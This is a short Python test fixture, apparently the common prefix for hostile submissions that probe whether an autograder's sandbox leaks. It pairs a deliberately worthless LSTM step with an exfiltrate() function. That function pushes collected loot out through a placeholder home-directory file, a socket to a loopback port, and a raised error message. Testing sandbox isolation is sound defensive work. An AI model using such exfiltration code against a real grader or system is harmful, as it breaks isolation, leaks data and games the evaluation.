# ruff: noqa: F821  (__PORT__ is filled in by the test)
"""The part every hostile answer starts with: a worthless answer, and a way to get loot out."""

import numpy as np


def lstm_step_forward(x, h_prev, c_prev, W, b):
    return np.zeros_like(h_prev), np.zeros_like(c_prev), None


LOOT = []


def exfiltrate(case):
    """Get what was found out of the sandbox: the teacher's home, a loopback server, the error message."""
    text = case + ": " + repr(LOOT)[:2000]
    try:
        with open("__FAKE_HOME__/loot-" + case + ".txt", "w") as f:
            f.write(text)
    except OSError:
        pass
    try:
        import socket

        with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
            s.sendall(text.encode())
    except OSError:
        pass
    raise RuntimeError("PROBE " + text[:300])
